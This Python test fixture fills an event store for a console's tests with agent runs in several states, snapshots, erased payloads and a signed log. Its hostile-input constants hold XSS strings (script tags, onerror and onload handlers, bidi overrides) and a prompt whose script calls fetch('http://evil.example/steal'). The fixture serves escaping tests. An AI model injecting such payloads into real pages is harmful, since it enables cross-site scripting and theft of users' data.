"""A store with something of everything the console shows: runs in each state (one in
doubt after a kill inside its tool), agent streams with a snapshot, a spilled and an
erased payload, and hostile content (script, HTML, bidi overrides, zero-width and odd
Unicode) in stream ids, payloads, prompts and model answers."""

from __future__ import annotations

from typing import Any

import ares_events as ae
from ares_events.agents.journal import InDoubtToolCall, Journal, ModelReply
from ares_events.integrity.notes import SigningKey
from ares_events.projections.erasure import erase
from ares_events.projections.merkle import MerkleLog

EVIL_ID = "<script>alert('id')</script>\u202egnp.exe\u200b-💥"
EVIL_HTML = "<img src=x onerror=\"alert('payload')\"><b>bold?</b>"
EVIL_PROMPT = "</pre><script>fetch('http://evil.example/steal')</script>"
EVIL_ANSWER = "<iframe src='http://evil.example/'></iframe>\"'><svg onload=alert('answer')>"
EVIL_RUN = "run-<b>evil</b>-\u202e"


LOG_KEY = SigningKey.generate("console.test/log")


class Killed(BaseException):
    """Stands in for kill -9 inside a tool: nothing after it is recorded."""


def _llm(text: str) -> Any:
    def call(messages: Any, params: Any) -> ModelReply:
        return ModelReply(
            {"text": text}, {"prompt_tokens": 11, "completion_tokens": 5, "total_tokens": 16}
        )

    return call


def _tool(args: Any, key: str) -> dict[str, Any]:
    return {"ticket": key, "title": args.get("title")}


def _die(args: Any, key: str) -> dict[str, Any]:
    raise Killed


def build(store: ae.EventStore) -> dict[str, str]:
    """Fill ``store``; return the names the tests look for."""
    # A completed run.
    j = Journal(store, "run-done", code_revision="rev-1")
    c1 = j.model_call(
        [{"role": "user", "content": "Summarise topic A."}],
        {"temperature": 0},
        call=_llm("A is fine"),
    )
    t = j.tool_call("create_ticket", {"title": f"finding {c1['text']}"}, call=_tool)
    j.patch("ticket", t["ticket"])
    j.model_call([{"role": "user", "content": "Conclude."}], {"temperature": 0}, call=_llm("done"))
    j.complete({"answer": "done"})
    # A run paused on an approval.
    j = Journal(store, "run-paused", code_revision="rev-1")
    j.model_call([{"role": "user", "content": "Plan."}], {}, call=_llm("plan"))
    j.interrupt("awaiting_approval")
    # A run killed inside its tool, then reopened: in doubt (no reconciler).
    j = Journal(store, "run-doubt", code_revision="rev-1")
    j.model_call([{"role": "user", "content": "File it."}], {}, call=_llm("filing"))
    try:
        j.tool_call("create_ticket", {"title": "t"}, call=_die)
    except Killed:
        pass
    j = Journal(store, "run-doubt", code_revision="rev-1")
    j.model_call([{"role": "user", "content": "File it."}], {}, call=_llm("filing"))
    try:
        j.tool_call("create_ticket", {"title": "t"}, call=_tool)
    except InDoubtToolCall:
        pass
    # Hostile content everywhere a model or a user can put text.
    j = Journal(store, EVIL_RUN, code_revision="rev-<i>1</i>")
    j.model_call(
        [{"role": "user", "content": EVIL_PROMPT}], {"note": EVIL_HTML}, call=_llm(EVIL_ANSWER)
    )
    j.tool_call("<script>tool</script>", {"html": EVIL_HTML}, call=_tool)
    ae.emit(
        store,
        EVIL_ID,
        "task.<b>created</b>",
        "runtime",
        {"html": EVIL_HTML, "answer": EVIL_ANSWER, "odd": "e\u0301\u0000\u2028\ufeff"},
    )
    # Agents: one with a snapshot, one with a spilled and an erased payload.
    for i in range(3):
        ae.emit(store, "agent-1", "note.added", "runtime", {"step": i})
    ae.snapshot(store, "agent-1", ae.projections.RecoveryStateProjection())
    ae.emit(store, "agent-2", "task.created", "runtime", {"note": "small"})
    ae.emit(store, "agent-2", "task.observed", "runtime", {"blob": "x" * 5000})
    ae.emit(store, "agent-2", "task.observed", "runtime", {"secret": "to be erased"})
    erase(store, "agent-2", 3, reason="a user asked", by="dpo")
    # The verifiable log, caught up and signed: a read model and a checkpoint to show.
    MerkleLog(store).sign(LOG_KEY)
    return {"evil_id": EVIL_ID, "evil_run": EVIL_RUN}
